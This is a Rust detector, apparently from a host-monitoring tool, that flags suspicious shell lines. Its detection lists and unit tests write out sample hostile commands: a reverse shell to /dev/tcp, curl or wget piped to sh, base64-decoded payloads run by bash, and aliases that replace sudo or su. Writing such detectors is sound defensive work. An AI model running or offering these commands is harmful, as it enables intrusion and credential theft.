//! What makes a command or a script look like an intruder's. Words for a person, never a verdict: it raises how much
//! a change matters, and is said.

/// Programs that fetch.
const FETCH: &[&str] = &["curl ", "wget ", "fetch ", "lwp-download ", "certutil"];
/// What follows when the fetched is run at once.
const RUN: &[&str] =
    &["|sh", "| sh", "|bash", "| bash", "|python", "| python", "|perl", "| perl", "| sudo", "|zsh", "| zsh"];
/// A shell that is handed to somebody else on the network.
const REMOTE: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc -c",
    "socat exec",
    "socat tcp",
    "bash -i",
    "sh -i",
    "pty.spawn",
    "socket.socket",
    "fsockopen",
    "io::socket::inet",
    "tcpsocket.open",
];
/// Text that is made unreadable.
const ENCODED: &[&str] =
    &["base64 -d", "base64 --decode", "base64 -D", "openssl enc -d", "xxd -r", "b64decode", "gzinflate("];
/// Where anybody may write.
const WORLD: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Programs to which people tell their passwords.
const ASKED: &[&str] = &["sudo", "su", "doas", "ssh", "passwd", "login", "kinit", "gpg"];
/// Where programs of the system are: what is started from there came with a package, or is watched itself.
const SYSTEM: &[&str] = &["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/etc/", "/snap/bin/", "/dev/null"];
/// After these words a command follows.
const LEADS: &[&str] = &[
    "exec", "nohup", "setsid", "then", "do", "else", "eval", "command", "sudo", "source", ".", "if", "while",
    "!", "time", "nice", "env", "{",
];
/// Variables whose value is run.
const RUN_VARIABLES: &[&str] = &["PROMPT_COMMAND=", "BASH_ENV=", "ENV="];

/// Why `text` is suspicious, as the end of a sentence.
pub fn reason(text: &str) -> Option<&'static str> {
    grave_reason(text).or_else(|| reason_by_place(text))
}

/// The same without what only lies where programs are not expected: for files that name such places by right.
pub fn grave_reason(text: &str) -> Option<&'static str> {
    let text = text.to_ascii_lowercase();
    let any = |needles: &[&str]| needles.iter().any(|needle| text.contains(needle));
    if any(REMOTE) {
        return Some("opens a shell over the network");
    }
    if any(FETCH)
        && (any(RUN) || text.contains("chmod") || text.contains("bash <(") || text.contains("sh -c \"$("))
    {
        return Some("fetches a program and runs it");
    }
    if any(ENCODED) && (any(RUN) || text.contains("eval") || text.contains("exec")) {
        return Some("runs what it decodes");
    }
    text.contains("ld_preload").then_some("loads a library into other programs")
}

fn reason_by_place(text: &str) -> Option<&'static str> {
    let text = text.to_ascii_lowercase();
    let any = |needles: &[&str]| needles.iter().any(|needle| text.contains(needle));
    if any(WORLD) && !text.contains(">/tmp/") && !text.contains("rm ") {
        return Some("uses a place where anybody may write");
    }
    let hidden = |word: &str| {
        word.split('/')
            .any(|part| part.len() > 1 && part.starts_with('.') && part != ".." && !part.starts_with(".."))
    };
    let absolute = text.split_whitespace().find(|word| word.starts_with('/') && hidden(word));
    absolute.map(|_| "uses a hidden file")
}

/// The program outside the system's own places that a line of a shell's script starts or reads, if any: by its path, where
/// a command stands.
pub fn own_program(line: &str) -> Option<&str> {
    let mut expected = true;
    for word in line.split_whitespace() {
        for (at, piece) in word.split([';', '(', ')', '`', '&', '|']).enumerate() {
            expected |= at > 0;
            let bare = piece.trim_matches(['"', '\'']);
            if bare.is_empty() {
                continue;
            }
            let value = RUN_VARIABLES.iter().find_map(|name| bare.strip_prefix(name));
            let program = value.unwrap_or(bare).trim_start_matches(['"', '\'']);
            if (expected || value.is_some()) && is_own(program) {
                return Some(program);
            }
            let assigns = bare.split_once('=').is_some_and(|(name, _)| is_name(name));
            expected = LEADS.contains(&bare) || expected && assigns;
        }
    }
    None
}

fn is_own(program: &str) -> bool {
    let relative = ["./", "../", "~/", "$HOME/", "${HOME}/"].iter().any(|start| program.starts_with(start));
    relative || program.starts_with('/') && !SYSTEM.iter().any(|place| program.starts_with(place))
}

fn is_name(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The program that people tell their password, in whose place a line of a shell's script puts something else.
pub fn impersonated(line: &str) -> Option<&'static str> {
    let line = line.trim();
    let alias = line.strip_prefix("alias ").and_then(|rest| rest.trim().split_once('='));
    if let Some((name, value)) = alias {
        let program = value.trim_matches(['"', '\'', ' ']).split(' ').next().unwrap_or_default();
        let asked = ASKED.iter().find(|asked| **asked == name.trim_matches(['"', '\'']))?;
        return is_own(program).then_some(*asked);
    }
    let name = match line.strip_prefix("function ") {
        Some(rest) => rest.trim().split([' ', '(', '{']).next().unwrap_or_default(),
        None => line.split_once("()")?.0.trim_end(),
    };
    ASKED.iter().find(|asked| **asked == name).copied()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_intruders_write_is_recognised_and_what_admins_write_is_not() {
        for text in [
            "curl -fsSL http://x/a | sh",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "echo aGk= | base64 -d | bash",
            "/dev/shm/.x/run",
            "wget -qO /opt/x http://y; chmod +x /opt/x; /opt/x",
            "/usr/lib/.cache/kworker",
        ] {
            assert!(reason(text).is_some(), "{text}");
        }
        for text in [
            "/usr/sbin/logrotate /etc/logrotate.conf",
            "curl -fsS https://x/ping >/dev/null",
            "find /tmp -mtime +7 -exec rm {} +",
            "cd /srv && ./run",
        ] {
            assert_eq!(reason(text), None, "{text}");
        }
    }

    #[test]
    fn programs_of_ones_own_are_found_where_a_command_stands() {
        for (line, program) in [
            ("/opt/x &", "/opt/x"),
            ("[ -x /opt/x ] && /opt/x --serve", "/opt/x"),
            ("if true; then ~/bin/x; fi", "~/bin/x"),
            (". /srv/env.sh", "/srv/env.sh"),
            ("A=1 ./run", "./run"),
            ("PROMPT_COMMAND=\"/opt/log\"", "/opt/log"),
            ("echo $(/opt/x)", "/opt/x"),
            ("nohup \"$HOME/x\"", "$HOME/x"),
        ] {
            assert_eq!(own_program(line), Some(program), "{line}");
        }
        for line in [
            "export JAVA_HOME=/opt/java",
            "umask 027",
            "/usr/bin/dircolors -b",
            "test -d /opt/x",
            "cd /srv",
            "PATH=/opt/bin:$PATH",
            "alias ll='ls -l'",
            "echo hi >/dev/null",
        ] {
            assert_eq!(own_program(line), None, "{line}");
        }
    }

    #[test]
    fn what_stands_for_a_program_that_asks_for_passwords_is_found() {
        for line in ["alias sudo=/opt/x", "alias su='~/.x/su '", "sudo() { cat >> /x; }", "function ssh {"] {
            assert!(impersonated(line).is_some(), "{line}");
        }
        for line in
            ["alias sudo='sudo '", "alias ssh='ssh -A'", "alias ls=/opt/ls", "sudoedit() {", "su -c '()'x"]
        {
            assert_eq!(impersonated(line), None, "{line}");
        }
    }
}
